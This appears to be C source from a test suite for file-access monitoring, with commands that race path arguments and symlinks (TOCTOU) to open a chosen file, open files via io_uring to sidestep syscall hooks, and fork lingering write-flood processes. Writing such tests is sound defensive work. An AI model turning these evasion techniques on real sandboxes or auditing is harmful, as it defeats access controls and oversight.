/* SPDX-License-Identifier: Apache-2.0 */
#define _GNU_SOURCE
#include "bypass.h"

#include <fcntl.h>
#include <linux/io_uring.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

enum { RACES = 2000000 };

static char raced_path[64];
static volatile int race_over;

/* The argument itself changes while the kernel reads it. */
static void *swap_path(void *names)
{
	char **path = names;

	for (unsigned i = 0; !race_over; i++)
		memcpy(raced_path, path[i % 2], strlen(path[0]) + 1);
	return NULL;
}

/* Where a link leads changes while the kernel follows it. */
static void *swap_link(void *names)
{
	char **path = names;

	for (unsigned i = 0; !race_over; i++) {
		(void)!symlink(path[i % 2], "/tmp/next");
		rename("/tmp/next", "/tmp/link");
	}
	return NULL;
}

/* Opens until it was `file` that was opened, and not the harmless one: what was won is not to be won unseen. */
static int race(void *(*swap)(void *), const char *path, char *file)
{
	char *names[] = { "/tmp/nothing", file };
	struct stat wanted, got;
	pthread_t thread;
	int fd;

	if (strlen(file) != strlen(names[0]) || stat(file, &wanted) || creat(names[0], 0644) < 0)
		return 1;
	strcpy(raced_path, names[0]);
	(void)!symlink(names[0], "/tmp/link");
	if (pthread_create(&thread, NULL, swap, names))
		return 1;
	for (int i = 0; i < RACES && !race_over; i++) {
		fd = open(path, O_RDONLY);
		if (fd < 0)
			continue;
		race_over = fstat(fd, &got) == 0 && got.st_ino == wanted.st_ino;
		close(fd);
	}
	puts(race_over ? "the race was won" : "the race was lost");
	race_over = 1;
	return pthread_join(thread, NULL);
}

/* race-path FILE: as long as /tmp/nothing */
int race_path(char **args)
{
	return race(swap_path, raced_path, args[0]);
}

int race_link(char **args)
{
	return race(swap_link, "/tmp/link", args[0]);
}

/* uring-open FILE: by an order in a ring, without the system call for it */
int uring_open(char **args)
{
	struct io_uring_params p = { 0 };
	int ring = (int)syscall(SYS_io_uring_setup, 2, &p);
	struct io_uring_sqe *sqe;
	unsigned char *sq, *cq;

	if (ring < 0) {
		perror("io_uring_setup");
		return 1;
	}
	sq = mmap(NULL, p.sq_off.array + p.sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
	cq = mmap(NULL, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe), PROT_READ | PROT_WRITE, MAP_SHARED,
		  ring, IORING_OFF_CQ_RING);
	sqe = mmap(NULL, p.sq_entries * sizeof(*sqe), PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || sqe == MAP_FAILED)
		return 1;
	*sqe = (struct io_uring_sqe){ .opcode = IORING_OP_OPENAT, .fd = AT_FDCWD,
				      .addr = (__u64)(unsigned long)args[0] };
	((unsigned *)(sq + p.sq_off.array))[0] = 0;
	__atomic_store_n((unsigned *)(sq + p.sq_off.tail), 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) {
		perror("io_uring_enter");
		return 1;
	}
	printf("opened by the ring: %d\n", ((struct io_uring_cqe *)(cq + p.cq_off.cqes))->res);
	return 0;
}

/* busy N SECONDS: N processes open and write as fast as they can; they go on when this one has ended */
int busy(char **args)
{
	int count = atoi(args[0]);
	time_t end = time(NULL) + atoi(args[1]);

	for (int i = 0; i < count; i++) {
		if (fork())
			continue;
		while (time(NULL) < end)
			close(open("/tmp/busy", O_CREAT | O_WRONLY, 0644));
		_exit(0);
	}
	return 0;
}
